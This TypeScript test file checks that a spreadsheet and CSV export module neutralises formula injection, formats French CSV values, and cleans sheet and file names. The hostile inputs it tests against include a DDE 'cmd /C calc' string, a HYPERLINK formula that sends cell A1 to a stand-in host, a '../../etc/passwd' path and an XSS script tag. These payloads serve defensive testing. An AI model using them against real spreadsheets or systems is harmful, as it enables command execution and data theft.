import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  csvHeader,
  csvLine,
  csvText,
  downloadName,
  maxCellLength,
  neutralizeText,
  plainCellText,
  type SpreadsheetColumn,
  sheetName,
  toSpreadsheetValue,
} from './spreadsheet.ts';

const paris = 'Europe/Paris';
const text: SpreadsheetColumn = { header: 'Nom', type: 'text' };

/** Texts that a spreadsheet program would run as a formula or a command. */
const formulas = [
  '=1+1',
  '+33 6 12 40 77 18',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://exemple.test?x="&A1,"Cliquez")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
];

const harmless = [
  'Aline Dubreuil',
  'Anne-Marie d’Estaing',
  "L'Haÿ-les-Roses",
  '12 rue du Moulin',
  'a=b',
  '🎪 Fête',
  '</script><script>alert(1)</script>',
  '{{7*7}} #{7*7} <%= 7*7 %>',
  'مرحبا',
];

describe('text in a spreadsheet', () => {
  it.each(formulas)('never starts a formula: %j', (hostile) => {
    expect(neutralizeText(hostile).startsWith("'")).toBe(true);
  });

  it.each(harmless)('is left as it is: %j', (kind) => {
    expect(neutralizeText(kind)).toBe(kind);
  });

  it('keeps line breaks and drops other control characters', () => {
    expect(neutralizeText('a\u0000b\nc\u001bd')).toBe('ab\ncd');
  });

  it('never begins with a character that a program runs, whatever is typed', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (any) => {
        expect(neutralizeText(any)).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
        expect(neutralizeText(any)).not.toMatch(/^[\t\r\n]/);
      }),
    );
  });

  it('fits the cell of a workbook', () => {
    expect(plainCellText('é'.repeat(40_000))).toHaveLength(maxCellLength);
    expect(plainCellText('=1+1')).toBe('=1+1');
  });
});

describe('values of a typed column', () => {
  it.each([
    ['date', '2026-11-02', '2026-11-02'],
    ['date', '2026-12-31T23:30:00.000Z', '2027-01-01'],
    ['date', new Date('2024-02-29T10:00:00Z'), '2024-02-29'],
    ['dateTime', '2026-03-29T01:00:00.000Z', '2026-03-29T03:00'],
    ['dateTime', '2026-11-02', '2026-11-02T00:00'],
    ['date', 'demain', 'demain'],
    ['date', new Date(Number.NaN), null],
    ['money', 4300, 4300],
    ['money', Number.POSITIVE_INFINITY, null],
    ['number', '12', '12'],
    ['boolean', false, false],
    ['text', ['président', 'membre'], 'président, membre'],
    ['text', 0, '0'],
    ['text', undefined, null],
    ['text', { ville: 'Laon' }, '{"ville":"Laon"}'],
  ] as const)('reads %s %j as %j', (type, value, expected) => {
    expect(toSpreadsheetValue(value, type, paris)).toBe(expected);
  });
});

describe('a French CSV', () => {
  it.each([
    ['date', '2026-11-02', '02/11/2026'],
    ['dateTime', '2026-11-02T09:05', '02/11/2026 09:05'],
    ['date', '=1+1', "'=1+1"],
    ['money', 4300, '43,00'],
    ['money', 0, '0,00'],
    ['money', -1, '-0,01'],
    ['number', 12.5, '12,5'],
    ['boolean', true, 'Oui'],
    ['boolean', false, 'Non'],
    ['text', null, ''],
    ['number', '=2+2', "'=2+2"],
  ] as const)('writes %s %j as %j', (type, value, expected) => {
    expect(csvText(value, type)).toBe(expected);
  });

  it('keeps one row on one record whatever the cells hold', () => {
    expect(csvLine(['a;b', 'c"d', 'e\nf', 'g,=h'], [text, text, text, text])).toBe(
      '"a;b";"c""d";"e\nf";"g,=h"\r\n',
    );
  });

  it('fills missing cells, so that columns stay aligned', () => {
    expect(csvLine(['a'], [text, text, text])).toBe('a;;\r\n');
  });

  it('guards its headers too', () => {
    expect(csvHeader([{ header: '=1+1', type: 'text' }])).toBe("'=1+1\r\n");
  });

  it('reads back as the same cells for any text', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
        const columns = cells.map(() => text);
        const line = csvLine(cells, columns);
        expect(parseLine(line)).toEqual(cells.map((cell) => neutralizeText(cell)));
      }),
    );
  });
});

describe('names given to a file', () => {
  it.each([
    ['Membres', 'Membres'],
    ['Membres [2026] / été: "A"?', 'Membres  2026    été  "A"'],
    ["'Membres'", 'Membres'],
    ['', 'Feuille 1'],
    ['x'.repeat(50), 'x'.repeat(31)],
  ])('sheet %j becomes %j', (wanted, expected) => {
    expect(sheetName(wanted)).toBe(expected);
  });

  it.each([
    ['membres_association_2026-11-02', 'membres_association_2026-11-02.xlsx'],
    ['../../etc/passwd', 'etc-passwd.xlsx'],
    ['a\u202excod', 'a-xcod.xlsx'],
    ['   ', 'export.xlsx'],
  ])('file %j becomes %j', (wanted, expected) => {
    expect(downloadName(wanted, 'xlsx')).toBe(expected);
  });
});

/** A reader of RFC 4180 records, independent of the writer. */
function parseLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < line.length; at += 1) {
    const char = line[at] ?? '';
    if (quoted) {
      if (char !== '"') cell += char;
      else if (line[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else quoted = false;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ';' || (char === '\r' && line[at + 1] === '\n')) {
      cells.push(cell);
      cell = '';
      if (char === '\r') break;
    } else cell += char;
  }
  return cells;
}

describe('a telephone number', () => {
  const phone = (value: string) => csvText(toSpreadsheetValue(value, 'phone', paris), 'phone');

  it('is read as it is dialled, without an apostrophe', () => {
    expect(phone('+33612407718')).toBe('06 12 40 77 18');
    expect(phone('+442079460958')).toBe('+442 079 460 958');
    expect(phone('0612407718')).toBe('06 12 40 77 18');
  });

  it('is neutralised as soon as it is anything else', () => {
    for (const hostile of ['+33612407718+1', '=1+1', '+cmd|1', '-33 6', '@1', '+33', '+1*2 3', '\t+33 6'])
      expect(phone(hostile).startsWith("'"), hostile).toBe(true);
  });
});
